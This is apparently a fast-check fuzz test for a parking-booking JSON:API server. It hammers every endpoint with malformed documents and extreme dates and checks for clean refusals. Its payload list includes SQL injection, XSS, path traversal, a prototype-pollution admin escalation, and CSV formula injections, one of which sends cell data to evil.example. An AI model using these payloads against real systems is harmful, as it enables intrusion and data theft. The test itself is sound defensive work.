/**
 * Hostile input, property-based (fast-check): malformed and adversarial requests to every endpoint,
 * anonymous and as an Admin (who gets furthest past authorisation). Each must be answered below 500,
 * every refusal as a JSON:API error document, and a batch in which nothing was accepted must leave
 * every table's row count as it was. Seeded (FUZZ_SEED, default below) so that a failure replays.
 * Then far-future, reversed and same-instant stays on every call that takes dates: each answered below
 * 500 and within a second (issue 20: a year-4000 change quote froze the server for 17 s).
 */
import fc from 'fast-check';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildRegistry } from '../app';
import { bookingDoc, bookingFixtures, type Fixtures } from '../test/booking-fixtures';
import { createUser, login } from '../test/factories';
import { createTestServer, JSONAPI, type TestServer } from '../test/server';

const API = '/backend/api/v1';
const SEED = Number(process.env.FUZZ_SEED ?? 1414);
/** Requests per run: the issue asks for at least 10,000. */
const RUNS = { writes: 6000, reads: 2500, raw: 1500 };

const TYPES = buildRegistry()
  .all()
  .map((def) => def.type);
/** Action endpoints that take a document. */
const ACTIONS = [
  'sessions',
  'email-confirmations',
  'confirmation-email-requests',
  'password-resets',
  'password-reset-confirmations',
  'booking-quotes',
  'promo-codes',
  'payment-confirmations',
  'payments',
  'local-payments',
  'checkout-sessions',
  'billing-sessions',
  'lot-volume-graphs',
  'arrival-departure-graphs',
  'extras-stats',
  'extras-graphs',
  'booking-type-stats',
];
const GETS = [
  'quotes/',
  'extras/',
  'blockout-periods/current_form_blockout/',
  'bookings/invoices/',
  'bookings/export/',
  'customers/export/',
  'kpi-summary-csv/',
  'bookings/currently-parked/',
  'bookings/income-owed/',
  'sessions/current/',
  'payment-config/',
];
/** Attribute names the schemas read, so that values reach the rules and not only "unknown field". */
const NAMES = [
  'email',
  'password',
  'currentPassword',
  'newPassword1',
  'newPassword2',
  'uid',
  'token',
  'title',
  'firstName',
  'lastName',
  'phoneNumber',
  'business',
  'name',
  'message',
  'rego',
  'make',
  'model',
  'colour',
  'startDatetime',
  'endDatetime',
  'startDate',
  'endDate',
  'flightNumberOut',
  'flightNumberIn',
  'busDepartureTime',
  'passengersOut',
  'passengersIn',
  'promoCode',
  'rate',
  'amount',
  'spaces',
  'fillRateThreshold',
  'validFrom',
  'validTo',
  'dropOffStart',
  'dropOffEnd',
  'date',
  'surcharge',
  'days',
  'basePrice',
  'price',
  'status',
  'paymentStatus',
  'roles',
  'clientSecret',
  'number',
  'expiry',
  'cvc',
  'discountRate',
  'notes',
  'slug',
  'time',
  'departure',
  'service',
  'blockType',
  'rows',
  'public',
];

const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE bookings; --",
  '1; SELECT pg_sleep(10)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '{{7*7}}',
  '../../etc/passwd',
  '\u0000',
  '\uD800',
  'Ｚａｌｇｏ̷̢̛̛̲̘͎',
  '🚗🅿️✈️',
  'مرحبا',
  '\u202Eevil',
  '2026-02-30',
  '9999-12-31T99:99:99Z',
  '0000-00-00',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '',
  ' ',
  // CSV (formula) injection: what a spreadsheet would run when the CSV exports are opened.
  '=HYPERLINK("http://evil.example/?x="&C2,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  // Far-future dates and datetimes, up to JavaScript's last instant.
  '4000-01-01',
  '9999-12-31',
  '275760-09-13',
  '4000-01-01T06:00:00+11:00',
  '9999-12-31T23:59:59-12:00',
  '+275760-09-13T00:00:00.000Z',
];

const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ minLength: 300, maxLength: 3000 }),
    fc.integer(),
    fc.constantFrom(-1, 0, -0, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MIN_VALUE, 0.1 + 0.2),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 8 }), tie('value'), { maxKeys: 3 }),
  ),
})).value;

const attributes = fc.dictionary(
  fc.oneof(fc.constantFrom(...NAMES), fc.string({ maxLength: 12 })),
  hostileValue,
  { maxKeys: 8 },
);
const relationships = fc.dictionary(
  fc.constantFrom(
    'lot',
    'vehicleType',
    'customer',
    'vehicle',
    'user',
    'price',
    'booking',
    'extras',
    'airlineOut',
    'owner',
    'day',
    'extra',
  ),
  fc.oneof(
    fc.record({
      data: fc.oneof(
        fc.constant(null),
        fc.record({
          type: fc.constantFrom(...TYPES),
          id: fc.oneof(
            fc.constantFrom('1', '2', '-1', '0', '99999999999999999999', 'abc'),
            fc.string({ maxLength: 20 }),
          ),
        }),
      ),
    }),
    hostileValue,
  ),
  { maxKeys: 3 },
);

/** A document that looks right at a glance, or does not. */
const documentOf = (type: string) =>
  fc.oneof(
    {
      weight: 6,
      arbitrary: fc.record({
        data: fc.record(
          { type: fc.oneof(fc.constant(type), fc.constantFrom(...TYPES)), attributes, relationships },
          { requiredKeys: ['type'] },
        ),
      }),
    },
    {
      weight: 1,
      arbitrary: fc.record({ data: fc.record({ type: fc.constant(type), id: hostileValue, attributes }) }),
    },
    { weight: 1, arbitrary: hostileValue },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  );

/** Percent-encoding that also carries a lone surrogate (which encodeURIComponent refuses) as its raw bytes. */
const encode = (value: string) => {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
};

const ids = fc.oneof(
  fc.constantFrom(
    '1',
    '2',
    '3',
    '0',
    '-1',
    '1.5',
    '1e3',
    '99999999999999999999',
    '%00',
    "1' OR '1'='1",
    'null',
  ),
  fc.string({ maxLength: 30 }).map(encode),
);

const queryValue = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ maxLength: 30 }),
  fc.integer().map(String),
);
const queryKey = fc.oneof(
  fc.constantFrom(
    'page[number]',
    'page[size]',
    'sort',
    'include',
    'start_date',
    'end_date',
    'filter[lot.slug__in]',
    'filter[email]',
    'filter[startDate]',
    'filter[customer_details]',
    'filter[id__in]',
    'filter[created__gte]',
    'filter[status__isnull]',
    'fields[bookings]',
    'path',
  ),
  fc.string({ maxLength: 15 }),
);
const query = fc
  .array(fc.tuple(queryKey, queryValue), { maxLength: 5 })
  .map((pairs) => pairs.map(([key, value]) => `${encode(key)}=${encode(value)}`).join('&'));

interface Request {
  method: 'GET' | 'POST' | 'PATCH' | 'DELETE';
  url: string;
  payload?: string;
  contentType?: string;
  admin: boolean;
  headers?: Record<string, string>;
}

const writes: fc.Arbitrary<Request> = fc.oneof(
  fc.record({ type: fc.constantFrom(...TYPES), admin: fc.boolean() }).chain(({ type, admin }) =>
    fc.oneof(
      documentOf(type).map((doc): Request => ({
        method: 'POST',
        url: `${API}/${type}/`,
        payload: JSON.stringify(doc),
        admin,
      })),
      fc.tuple(ids, documentOf(type)).map(([id, doc]): Request => ({
        method: 'PATCH',
        url: `${API}/${type}/${id}/`,
        payload: JSON.stringify(doc),
        admin,
      })),
      // Deletes only of ids no row has: the point is the id's parsing, not losing fixtures.
      fc
        .constantFrom('0', '-1', 'abc', '1.5', '99999999999999999999', '%27%20OR%201%3D1')
        .map((id): Request => ({ method: 'DELETE', url: `${API}/${type}/${id}/`, admin })),
    ),
  ),
  fc.record({ action: fc.constantFrom(...ACTIONS), admin: fc.boolean() }).chain(({ action, admin }) =>
    documentOf(action).map((doc): Request => ({
      method: 'POST',
      url: `${API}/${action}/`,
      payload: JSON.stringify(doc),
      admin,
    })),
  ),
);

const reads: fc.Arbitrary<Request> = fc.oneof(
  fc
    .tuple(fc.constantFrom(...TYPES.map((type) => `${type}/`), ...GETS), query, fc.boolean())
    .map(([path, q, admin]): Request => ({ method: 'GET', url: `${API}/${path}?${q}`, admin })),
  fc
    .tuple(fc.constantFrom(...TYPES), ids, query, fc.boolean())
    .map(([type, id, q, admin]): Request => ({ method: 'GET', url: `${API}/${type}/${id}/?${q}`, admin })),
  fc
    .tuple(ids, fc.boolean())
    .map(([id, admin]): Request => ({ method: 'GET', url: `${API}/bookings/${id}/invoice/`, admin })),
  fc
    .tuple(fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 300 })), fc.boolean())
    .map(([email, admin]): Request => ({
      method: 'GET',
      url: `${API}/anon-emails/${encode(email)}/`,
      admin,
    })),
);

const HUGE = JSON.stringify({
  data: { type: 'contact-submissions', attributes: { message: 'x'.repeat(1_100_000) } },
});
const DEEP = `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`;
const DEEP_ARRAY = `{"data":${'['.repeat(50_000)}${']'.repeat(50_000)}}`;

/** Bytes no JSON:API client sends: other media types, broken JSON, duplicate keys, deep nesting, huge bodies. */
const raw: fc.Arbitrary<Request> = fc
  .tuple(
    fc.constantFrom(...TYPES.map((type) => `${type}/`), ...ACTIONS.map((action) => `${action}/`)),
    fc.oneof(
      fc.constantFrom(
        '{"data":{"type":"users","type":"bookings","attributes":{"email":"a@example.com","email":["x"]}}}',
        '{"data":{"type":"sessions","attributes":{"email":"a@example.com","password":"x"},"attributes":null}}',
        '{"data":',
        '',
        'null',
        '[]',
        '"string"',
        '{"__proto__":{"isAdmin":true},"data":{"type":"users","attributes":{"constructor":{"prototype":{"roles":["Admins"]}}}}}',
        HUGE,
        DEEP,
        DEEP_ARRAY,
      ),
      fc.string({ maxLength: 200 }),
      fc.string({ unit: 'binary', maxLength: 200 }),
    ),
    fc.constantFrom(
      JSONAPI,
      'application/json',
      `${JSONAPI}; ext=foo`,
      `${JSONAPI}; charset=utf-8`,
      'text/plain',
      'text/html',
      'application/xml',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/octet-stream',
      '',
    ),
    fc.constantFrom<Request['method']>('POST', 'PATCH'),
    fc.boolean(),
  )
  .map(([path, payload, contentType, method, admin]): Request => ({
    method,
    url: method === 'PATCH' ? `${API}/${path}1/` : `${API}/${path}`,
    payload,
    contentType,
    admin,
  }));

/**
 * Stays no traveller asks for (issue 20): far in the future (to JavaScript's last instant), reversed, of
 * no length, and years long. Every call that takes dates gets each of them.
 */
const STAYS: Array<{ name: string; start: string; end: string }> = [
  { name: 'year 4000', start: '4000-01-01T06:00:00+11:00', end: '4000-01-03T18:00:00+11:00' },
  { name: 'year 9999', start: '9999-12-29T06:00:00+11:00', end: '9999-12-31T18:00:00+11:00' },
  {
    name: 'into year 10000 by the offset',
    start: '9999-12-30T06:00:00-12:00',
    end: '9999-12-31T23:59:59-12:00',
  },
  { name: 'JavaScript’s last day', start: '+275760-09-13T00:00:00.000Z', end: '+275760-09-13T00:00:00.000Z' },
  { name: 'year 275760, no sign', start: '275760-09-12T00:00:00Z', end: '275760-09-13T00:00:00Z' },
  { name: 'three years of 9997-9999', start: '9997-01-05T00:00:00+11:00', end: '9999-12-31T23:59:59+11:00' },
  { name: 'next week to year 4000', start: '2026-12-01T06:00:00+11:00', end: '4000-01-01T06:00:00+11:00' },
  { name: 'next week to year 9999', start: '2026-12-01T06:00:00+11:00', end: '9999-12-31T18:00:00+11:00' },
  { name: 'five years', start: '2026-12-01T06:00:00+11:00', end: '2031-12-01T06:00:00+11:00' },
  { name: 'year 1 to year 9999', start: '0001-01-01T00:00:00Z', end: '9999-12-31T23:59:59Z' },
  { name: 'reversed', start: '2026-12-03T18:00:00+11:00', end: '2026-12-01T06:00:00+11:00' },
  { name: 'reversed, years apart', start: '9999-12-31T18:00:00+11:00', end: '2026-12-01T06:00:00+11:00' },
  { name: 'reversed in year 4000', start: '4000-01-03T18:00:00+11:00', end: '4000-01-01T06:00:00+11:00' },
  { name: 'same instant', start: '2026-12-01T06:00:00+11:00', end: '2026-12-01T06:00:00+11:00' },
  { name: 'same instant in year 4000', start: '4000-01-01T06:00:00+11:00', end: '4000-01-01T06:00:00+11:00' },
];
/** The date part of a datetime, as the date parameters take it ('+275760-09-13', '4000-01-01'). */
const dateOf = (datetime: string) => /^[+-]?\d+-\d{2}-\d{2}/.exec(datetime)?.[0] ?? datetime;
/** Slower than this is a finding: a request that holds the server this long holds everyone's. */
const SLOW_MS = 1000;

let server: TestServer;
let f: Fixtures;
let adminToken = '';
let tables: string[] = [];
const tally = { requests: 0, serverErrors: 0, accepted: 0, refused: 0 };
/** The last request's duration in milliseconds (app.inject, in process: the server's own time), and the slowest. */
let lastMs = 0;
const slowestRequest = { ms: 0, what: '' };

/** Row counts of every table, except the ones a refused request legitimately touches (abuse counters, sessions). */
async function rowCounts(): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const table of tables) {
    const result = await server.handle.db.execute(sql.raw(`SELECT count(*)::int AS n FROM "${table}"`));
    counts[table] = Number((result as unknown as { rows: Array<{ n: number }> }).rows[0]?.n);
  }
  return counts;
}

beforeAll(async () => {
  server = await createTestServer();
  f = await bookingFixtures(server.handle.db);
  const admin = await createUser(server.handle.db, { roles: ['Admins'] });
  adminToken = await login(server.app, admin.user.email);
  const booked = await server.app.inject({
    method: 'POST',
    url: `${API}/bookings/`,
    headers: { 'content-type': JSONAPI },
    payload: JSON.stringify(bookingDoc(f)),
  });
  if (booked.statusCode !== 201) throw new Error(booked.body);
  const result = await server.handle.db.execute(
    sql`SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename`,
  );
  tables = (result as unknown as { rows: Array<{ tablename: string }> }).rows
    .map((row) => row.tablename)
    .filter((name) => !['rate_limit_hits', 'sessions', '__drizzle_migrations'].includes(name));
});
afterAll(() => server.close());

async function send(request: Request): Promise<boolean> {
  const headers: Record<string, string> = { accept: JSONAPI, ...request.headers };
  if (request.admin) headers.authorization = `Token ${adminToken}`;
  if (request.payload !== undefined) headers['content-type'] = request.contentType ?? JSONAPI;
  if (headers['content-type'] === '') delete headers['content-type'];
  const started = performance.now();
  const response = await server.app.inject({
    method: request.method,
    url: request.url,
    headers,
    payload: request.payload,
  });
  lastMs = performance.now() - started;
  tally.requests += 1;
  const what = `${request.method} ${request.url.slice(0, 200)} [${headers['content-type'] ?? 'no body'}${request.admin ? ', admin' : ''}] ${(request.payload ?? '').slice(0, 300)} -> ${response.statusCode} ${response.body.slice(0, 300)}`;
  if (lastMs > slowestRequest.ms) Object.assign(slowestRequest, { ms: lastMs, what: what.slice(0, 300) });
  if (response.statusCode >= 500) {
    tally.serverErrors += 1;
    expect.fail(`5xx: ${what}`);
  }
  if (response.statusCode >= 400) {
    tally.refused += 1;
    expect(String(response.headers['content-type']), what).toContain(JSONAPI);
    const body = response.json<{ errors?: Array<{ status?: unknown; detail?: unknown }> }>();
    expect(Array.isArray(body.errors) && body.errors.length > 0, what).toBe(true);
    for (const error of body.errors ?? []) {
      expect(error.status, what).toBe(String(response.statusCode));
      expect(typeof error.detail, what).toBe('string');
    }
    return false;
  }
  tally.accepted += 1;
  return request.method !== 'GET';
}

/** Runs a property in batches; a batch in which no write was accepted must leave every count as it was. */
async function fuzz(arbitrary: fc.Arbitrary<Request>, runs: number, seed: number) {
  const batch = 250;
  for (let done = 0; done < runs; done += batch) {
    const before = await rowCounts();
    let wrote = false;
    await fc.assert(
      fc.asyncProperty(arbitrary, async (request) => {
        if (await send(request)) wrote = true;
      }),
      { seed: seed + done, numRuns: Math.min(batch, runs - done), endOnFailure: true },
    );
    if (!wrote) expect(await rowCounts()).toEqual(before);
  }
}

describe(`hostile input (FUZZ_SEED=${SEED})`, () => {
  it(
    `writes: ${RUNS.writes} malformed documents to every resource and action`,
    { timeout: 600_000 },
    async () => {
      await fuzz(writes, RUNS.writes, SEED);
    },
  );

  it(
    `reads: ${RUNS.reads} hostile ids, filters, sorts, pages and includes`,
    { timeout: 600_000 },
    async () => {
      await fuzz(reads, RUNS.reads, SEED + 1);
    },
  );

  it(
    `raw bodies: ${RUNS.raw} wrong media types, broken and duplicate-key JSON, deep nesting, oversized bodies`,
    { timeout: 600_000 },
    async () => {
      await fuzz(raw, RUNS.raw, SEED + 2);
    },
  );

  it(
    `far-future, reversed and same-instant dates: ${STAYS.length} stays on every call that takes dates, each answered below 500 within ${SLOW_MS} ms`,
    { timeout: 600_000 },
    async () => {
      // A booking of its own to manage (the fuzz may have changed the first one), by its guest and by staff.
      const booked = await server.app.inject({
        method: 'POST',
        url: `${API}/bookings/`,
        headers: { 'content-type': JSONAPI },
        payload: JSON.stringify(
          bookingDoc(f, { attributes: { email: 'dates@example.com', rego: 'DATES1' } }),
        ),
      });
      expect(booked.statusCode, booked.body).toBe(201);
      const booking = booked.json<{ data: { id: string; attributes: { bookingCode: string } } }>().data;
      const session = await server.app.inject({
        method: 'POST',
        url: `${API}/manage-booking-sessions/`,
        headers: { 'content-type': JSONAPI },
        payload: JSON.stringify({
          data: {
            type: 'manage-booking-sessions',
            attributes: { bookingCode: booking.attributes.bookingCode, email: 'dates@example.com' },
          },
        }),
      });
      expect(session.statusCode, session.body).toBe(201);
      const guest = {
        'x-manage-token': session.json<{ data: { attributes: { token: string } } }>().data.attributes.token,
      };
      const lot = { data: { type: 'lots', id: String(f.outdoor.id) } };
      const vehicleType = { data: { type: 'vehicle-types', id: String(f.sedan.id) } };
      const post = (
        type: string,
        attributes: Record<string, unknown>,
        relationships?: Record<string, unknown>,
      ) => JSON.stringify({ data: { type, attributes, ...(relationships ? { relationships } : {}) } });
      const q = (params: Record<string, string>) => new URLSearchParams(params).toString();

      /** Each call that takes dates, as the callers who get furthest with it. */
      const calls: Record<string, (stay: (typeof STAYS)[number]) => Request> = {
        'GET quotes/': ({ start, end }) => ({
          method: 'GET',
          url: `${API}/quotes/?${q({ start_date: dateOf(start), end_date: dateOf(end), include: 'lot' })}`,
          admin: false,
        }),
        'GET quotes/ (Admin)': ({ start, end }) => ({
          method: 'GET',
          url: `${API}/quotes/?${q({ start_date: dateOf(start), end_date: dateOf(end), 'filter[lot.slug__in]': 'indoor,outdoor' })}`,
          admin: true,
        }),
        'POST booking-quotes/': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/booking-quotes/`,
          payload: post(
            'booking-quotes',
            { startDatetime: start, endDatetime: end, promoCode: 'WELCOME10' },
            { lot },
          ),
          admin: false,
        }),
        'POST booking-quotes/ (Admin)': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/booking-quotes/`,
          payload: post(
            'booking-quotes',
            { startDatetime: start, endDatetime: end, calculateSubscriptionGaps: true, discountRate: '0.5' },
            { lot },
          ),
          admin: true,
        }),
        'POST bookings/': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/bookings/`,
          payload: JSON.stringify(
            bookingDoc(f, { attributes: { startDatetime: start, endDatetime: end, promoCode: 'WELCOME10' } }),
          ),
          admin: false,
        }),
        'POST bookings/ (Admin)': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/bookings/`,
          payload: JSON.stringify(bookingDoc(f, { attributes: { startDatetime: start, endDatetime: end } })),
          admin: true,
        }),
        'PATCH bookings/{id}/ (Admin)': ({ start, end }) => ({
          method: 'PATCH',
          url: `${API}/bookings/${booking.id}/`,
          payload: JSON.stringify({
            data: {
              type: 'bookings',
              id: booking.id,
              attributes: { startDatetime: start, endDatetime: end },
            },
          }),
          admin: true,
        }),
        'POST promo-codes/': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/promo-codes/`,
          payload: post('promo-codes', { code: 'WELCOME10', dropOffStart: start, dropOffEnd: end }),
          admin: false,
        }),
        ...Object.fromEntries(
          [
            'lot-volume-graphs',
            'arrival-departure-graphs',
            'extras-stats',
            'extras-graphs',
            'booking-type-stats',
          ].map((type) => [
            `POST ${type}/`,
            ({ start, end }: (typeof STAYS)[number]): Request => ({
              method: 'POST',
              url: `${API}/${type}/`,
              payload: post(type, { startDatetime: start, endDatetime: end }),
              admin: true,
            }),
          ]),
        ),
        'GET kpi-summary-csv/ (start)': ({ start }) => ({
          method: 'GET',
          url: `${API}/kpi-summary-csv/?${q({ month: dateOf(start) })}`,
          admin: true,
        }),
        'GET kpi-summary-csv/ (end)': ({ end }) => ({
          method: 'GET',
          url: `${API}/kpi-summary-csv/?${q({ month: dateOf(end) })}`,
          admin: true,
        }),
        'GET bookings/ diary': ({ start }) => ({
          method: 'GET',
          url: `${API}/bookings/?${q({ 'filter[diaryDate]': dateOf(start), include: 'lot,extras' })}`,
          admin: true,
        }),
        'GET bookings/ diary days': ({ start, end }) => ({
          method: 'GET',
          url: `${API}/bookings/?${q({ 'filter[start_diary_date]': dateOf(start), 'filter[end_diary_date]': dateOf(end) })}`,
          admin: true,
        }),
        'GET bookings/ datetime range': ({ start, end }) => ({
          method: 'GET',
          url: `${API}/bookings/?${q({ 'filter[start_datetime__gte]': start, 'filter[start_datetime__lte]': end, 'filter[end_datetime__gte_or_isnull]': start, 'filter[payment_datetime__lt]': end, 'page[size]': '10000' })}`,
          admin: true,
        }),
        'GET bookings/invoices/': ({ start }) => ({
          method: 'GET',
          url: `${API}/bookings/invoices/?${q({ 'filter[status]': 'complete', 'filter[start_diary_date]': dateOf(start) })}`,
          admin: true,
        }),
        'GET bookings/export/': ({ start, end }) => ({
          method: 'GET',
          url: `${API}/bookings/export/?${q({ 'filter[start_datetime__gte]': start, 'filter[end_datetime__lte]': end })}`,
          admin: true,
        }),
        'GET bookings/income-owed/': ({ start, end }) => ({
          method: 'GET',
          url: `${API}/bookings/income-owed/?${q({ 'filter[end_datetime__gte]': start, 'filter[end_datetime__lte]': end })}`,
          admin: true,
        }),
        'POST manage-bookings/{id}/change-quotes/': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/manage-bookings/${booking.id}/change-quotes/`,
          payload: post('change-quotes', { startDatetime: start, endDatetime: end }),
          admin: false,
          headers: guest,
        }),
        'POST manage-bookings/{id}/change-quotes/ (Admin)': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/manage-bookings/${booking.id}/change-quotes/`,
          payload: post('change-quotes', { startDatetime: start, endDatetime: end }, { vehicleType }),
          admin: true,
        }),
        'POST manage-bookings/{id}/changes/': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/manage-bookings/${booking.id}/changes/`,
          payload: post('booking-changes', { startDatetime: start, endDatetime: end }),
          admin: false,
          headers: guest,
        }),
        'POST manage-bookings/{id}/changes/ (Admin)': ({ start, end }) => ({
          method: 'POST',
          url: `${API}/manage-bookings/${booking.id}/changes/`,
          payload: post('booking-changes', { startDatetime: start, endDatetime: end }, { vehicleType }),
          admin: true,
        }),
      };

      const slowest = new Map<string, { ms: number; stay: string }>();
      const accepted = new Map<string, string[]>();
      const slow: string[] = [];
      /** Routes found slow ('POST bookings/' for both callers): not asked again, one freeze is the finding and a dozen only hold CI up. */
      const frozen = new Set<string>();
      const route = (name: string) => name.replace(/ \(.*\)$/, '');
      for (const stay of STAYS) {
        for (const [name, call] of Object.entries(calls)) {
          if (frozen.has(route(name))) continue;
          const request = call(stay);
          const acceptedBefore = tally.accepted;
          await send(request);
          if (tally.accepted > acceptedBefore) accepted.set(name, [...(accepted.get(name) ?? []), stay.name]);
          if (lastMs > (slowest.get(name)?.ms ?? -1)) slowest.set(name, { ms: lastMs, stay: stay.name });
          if (lastMs > SLOW_MS) {
            slow.push(`${name} with ${stay.name} (${stay.start} .. ${stay.end}): ${Math.round(lastMs)} ms`);
            frozen.add(route(name));
          }
        }
      }
      console.info(
        [
          `dates: ${Object.keys(calls).length} calls x ${STAYS.length} stays; slowest response of each call:`,
          ...[...slowest].map(
            ([name, { ms, stay }]) =>
              `  ${name}: ${Math.round(ms)} ms (${stay})${accepted.has(name) ? `; accepted: ${accepted.get(name)?.join(', ')}` : ''}`,
          ),
        ].join('\n'),
      );
      expect(slow).toEqual([]);
    },
  );

  it('tried at least 10,000 requests and saw no 5xx', () => {
    console.info(
      `hostile input: ${tally.requests} requests (seed ${SEED}), ${tally.refused} refused, ${tally.accepted} accepted, ${tally.serverErrors} 5xx; slowest ${Math.round(slowestRequest.ms)} ms: ${slowestRequest.what}`,
    );
    expect(tally.requests).toBeGreaterThanOrEqual(10_000);
    expect(tally.serverErrors).toBe(0);
  });
});
